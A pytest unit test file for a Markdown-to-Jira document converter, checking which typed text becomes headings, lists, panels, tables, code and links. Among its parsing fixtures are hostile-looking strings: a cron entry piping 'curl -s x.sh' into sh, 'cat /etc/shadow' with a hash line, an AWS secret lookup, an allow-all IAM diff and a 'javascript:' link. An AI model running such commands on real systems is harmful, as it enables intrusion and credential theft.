"""What is markup on a case, and what is not."""

from __future__ import annotations

import pytest

from rich_text import plain, to_adf, to_text
from tests.unit.rich_text.adf import BREAK, Node, code, doc, h, li, ol, p, panel, quote, row, t, table, ul, url


@pytest.mark.parametrize(
    "typed",
    [
        r"Delete C:\Windows\Temp\*.exe and \\FS01\share\*.docx",
        r"C:\Users\<username>\AppData\[Vendor]\app.exe",
        r"Detection regex: ^\[ERROR\] user=\*(.*?)\* \<script\>$",
        "Resources:\narn:aws:s3:::*_prod_*\narn:aws:iam::*:role/*_admin_*",
        "KEY=***REDACTED*** x",
        "Persistence found in /var/spool/cron/root:\n* * * * * root curl -s x.sh | sh\n*/5 * * * * /tmp/m",
        "* 1 * * * cmd\n* 2 * * mon-fri cmd",
        "function:_internal_cleanup_ and User=_admin_",
        "users named *admin* or *root* were listed; files *secret* and *.pem",
        'Terraform diff of the role:\n- Effect = "Deny"\n+ Effect = "Allow"\n+ Action = "*"',
        '- Effect = "Deny"\n+ Effect = "Allow"',
        "# crontab -l\n# cat /etc/shadow\nroot:$6$abc:19000:0:99999:7:::",
        "# whoami",
        "Action taken: disabled key AKIAIOSFODNN7EXAMPLE\n---\nNext: rotate",
        "---",
        "===\n- - -\n* * *\n___",
        ">>> import os\n>>> os.environ['AWS_SECRET_ACCESS_KEY']",
        "> quoted\nand not",
        ">100 logins\n>",
        '{"Action": "*", "Resource": "*", "Condition": {"StringLike": {"aws:userid": "*:*"}}}',
        r"multiplicity 0..\* and C\_x",
        "Statement:\n- Sid: a\n  Effect: Deny",
        "  - indented: yaml\n  - more: yaml",
        "    indented code\n\ttab",
        '{\n  "a": {\n    "b": ["**secret**"]\n  }\n}',
        "2**10, (**kwargs), def f(*args, **kwargs): g(**kwargs), x=`whoami`",
        'Write-Host "a`tb`n" `\n  -Path "x"; "He said `"hi`" twice"',
        "SELECT `id`=1 and `b`=2",
        "**/secret**, **/*.js, **.exe**, **src/** and **/dist/**, a/**/b, **a*b**",
        "** ERROR ** and **\n**not\nover lines**",
        "_em_ __strong__ ~~gone~~ *em* <b>x</b> &amp; &#42; <https> <!-- x -->",
        "[x](y) [a](javascript:alert(1)) a[0](1) [](https://x) ![]()",
        "## heading\ndirectly above text",
        "text\n## below text",
        "##none\n\n####### seven\n\n## ",
        "01. Leading zero\n\n1) bracket\n\n2024.No blank",
        "1. a\n1. b",
        "1. a\n3. b",
        "- a\n-\n- b",
        "- - a",
        "- a\n* b",
        "-   aligned\n-   more",
        "- a\n b",
        "text\n1. one\n2. two",
        "| a | b |\n|---|\n| c | d |",
        "| a | b |\n|---|---|\n| c |",
        "| a |\n|---|\ntext",
        "| a\\|b |\n|---|",
        "text\n| a |\n|---|",
        "```\nunclosed",
        "```python title=x\ncode\n```",
        "Title\n~~~~~~~~~~\ntext\n~~~~~~~~~~",
        "a  b   c\t\td ",
        "\u202egnp.exe \u05e9\u05dc\u05d5\u05dd e\u0301 👩‍💻",
    ],
)
def test_what_people_type_stands_as_typed(typed: str) -> None:
    document = to_adf(typed)
    assert {"paragraph"} == {str(node["type"]) for node in _content(document)}
    assert plain(document) == "\n".join(line for line in typed.split("\n") if line.strip())
    assert to_text(document) == typed


def _content(document: Node) -> list[Node]:
    content = document["content"]
    assert isinstance(content, list)
    return content


@pytest.mark.parametrize(
    ("text", "content"),
    [
        ("## Two\n\n###### Six #", [h(2, "Two"), h(6, "Six #")]),
        ("> a\n> b\n\n> c", [quote(p("a", BREAK, "b")), quote(p("c"))]),
        ("> a\n>\n> - b", [quote(p("a"), ul(li(p("b"))))]),
        ("> > a\n>\n> ## b", [quote(p("> a"), p("## b"))]),
        ("> [!CAUTION]\n> a\n>\n> - b", [panel("error", p("a"), ul(li(p("b"))))]),
        ("> [!note]\n> ## a", [panel("note", h(2, "a"))]),
        ("> [!NOTE]", [quote(p("[!NOTE]"))]),
        ("- a\n- b", [ul(li(p("a")), li(p("b")))]),
        ("* a\n* *.pem", [ul(li(p("a")), li(p("*.pem")))]),
        ("- a\n  b\n- c", [ul(li(p("a", BREAK, "b")), li(p("c")))]),
        ("- a\n  - b\n    - c\n- d", [ul(li(p("a"), ul(li(p("b"), ul(li(p("c")))))), li(p("d")))]),
        ("- a\n    - b", [ul(li(p("a"), ul(li(p("b")))))]),
        ("1. a\n  - b\n2. c", [ol(1, li(p("a"), ul(li(p("b")))), li(p("c")))]),
        ("7. a\n8. b", [ol(7, li(p("a")), li(p("b")))]),
        ("- [ ] a\n- [x] b", [ul(li(p("[ ] a")), li(p("[x] b")))]),
        ("- key: v\n  other:\n    deep: w", [ul(li(p("key: v", BREAK, "other:", BREAK, "  deep: w")))]),
        ("- a\n  ```sh\n  ls\n\n  ps\n  ```\n- b", [ul(li(p("a"), code("ls\n\nps", "sh")), li(p("b")))]),
        ("```python\nx = 1\n\n\n\ty\n```\nafter", [code("x = 1\n\n\n\ty", "python"), p("after")]),
        ("Look:\n```\n- x\n```\n- y", [p("Look:"), code("- x"), ul(li(p("y")))]),
        ("~~~\n```\n~~~", [code("```")]),
        ("```\n```", [code("")]),
        ("| a | b |\n|---|:-:|\n| c |  |", [table(row("a", "b", header=True), row("c", ""))]),
        ("a | b\n--- | ---\nc | d", [table(row("a", "b", header=True), row("c", "d"))]),
        ("|  |\n|---|\n| b |", [table(row("b"))]),
        ("| a |\n|---|\n| `b` <br> c\\d |", [table(row("a", header=True), row(p(t("b", "code"), " <br> c\\d")))]),
    ],
)
def test_blocks_that_stand_alone(text: str, content: list[Node]) -> None:
    assert to_adf(text) == doc(*content)


@pytest.mark.parametrize(
    ("text", "parts"),
    [
        ("**a** and `b`.", [t("a", "strong"), " and ", t("b", "code"), "."]),
        ("(**a**), **a b_c**: **[x]**", ["(", t("a", "strong"), "), ", t("a b_c", "strong"), ": ", t("[x]", "strong")]),
        ("**kwargs and **strong**", ["**kwargs and ", t("strong", "strong")]),
        ("これは**「重要」**です", ["これは", t("「重要」", "strong"), "です"]),
        ("``a`b`` `` `c` ``", [t("a`b", "code"), " ", t("`c`", "code")]),
        ("`**a**` `C:\\*`", [t("**a**", "code"), " ", t("C:\\*", "code")]),
        ("**a `b` c**", [t("a ", "strong"), t("b", "code"), t(" c", "strong")]),
        ("**`b`**", ["**", t("b", "code"), "**"]),
        (
            "[a **b**](https://example.com)",
            [t("a ", href="https://example.com"), t("b", "strong", href="https://example.com")],
        ),
        ("**[a](https://b.example)**", [t("a", "strong", href="https://b.example")]),
        ("[`a`](https://b.example/(x)).", [t("a", "code", href="https://b.example/(x)"), "."]),
        ("<https://example.com/a.>", ["<", url("https://example.com/a"), ".>"]),
        ("(see https://example.com/a_b_(c)).", ["(see ", url("https://example.com/a_b_(c)"), ")."]),
        ("**https://example.com**", [t("https://example.com", "strong", href="https://example.com")]),
        ("https://example.com/ですか。", [url("https://example.com/"), "ですか。"]),
        ("xhttps://a https:// ftp://b hxxps://c", ["xhttps://a https:// ftp://b hxxps://c"]),
        ("https://x.aws/#logs~(a~'f*20*40m)", [url("https://x.aws/#logs~(a~'f*20*40m)")]),
        ('{"url": "https://x.example/**"}', ['{"url": "', url("https://x.example/"), '**"}']),
    ],
)
def test_marks_within_a_line(text: str, parts: list[str | Node]) -> None:
    assert to_adf(text) == doc(p(*parts))


def test_a_blank_text_is_a_document_without_content() -> None:
    assert to_adf("") == doc()
    assert to_adf(" \n\t\r\n") == doc()


def test_every_kind_of_line_end_is_one() -> None:
    assert to_adf("a\r\nb\rc\u2028d\x0be") == doc(p("a", BREAK, "b", BREAK, "c", BREAK, "d", BREAK, "e"))


def test_characters_that_jira_refuses_leave_a_trace() -> None:
    assert plain(to_adf("a\x00b \x1b[31mred \x7f\x9b\ud800\uffff")) == "a␀b ␛[31mred ␡\ufffd\ufffd\ufffd"
    assert plain(to_adf("\ud83d\ude00")) == "😀"


def test_lists_are_nested_as_deep_as_jira_lets_people_nest_them() -> None:
    six = "\n".join(f"{'  ' * depth}- {depth}" for depth in range(6))
    assert str(to_adf(six)).count("bulletList") == 6
    assert to_text(to_adf(six)) == six
    seven = f"{six}\n            - 6"
    assert plain(to_adf(seven)) == seven


def test_two_links_without_a_blank_between_them_have_two_addresses() -> None:
    expected = doc(p("[1](", url("https://a.io"), ")[2](", url("https://b.io"), ")"))
    assert to_adf("[1](https://a.io)[2](https://b.io)") == expected


def test_what_is_no_address_hides_none_behind_it() -> None:
    assert to_adf("(http://a)[1](https://b.io)") == doc(p("(http://a)[1](", url("https://b.io"), ")"))
